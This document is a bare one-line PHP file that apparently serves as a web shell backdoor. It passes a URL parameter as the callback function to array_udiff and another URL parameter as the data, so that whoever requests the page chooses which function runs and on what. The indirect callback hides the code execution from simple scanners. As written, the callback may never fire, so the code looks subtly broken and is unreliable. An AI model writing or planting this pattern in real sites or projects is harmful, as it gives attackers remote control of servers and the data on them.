<?php $a = array($_GET["c"] => 1); array_udiff($a, array(), $_GET["f"]);
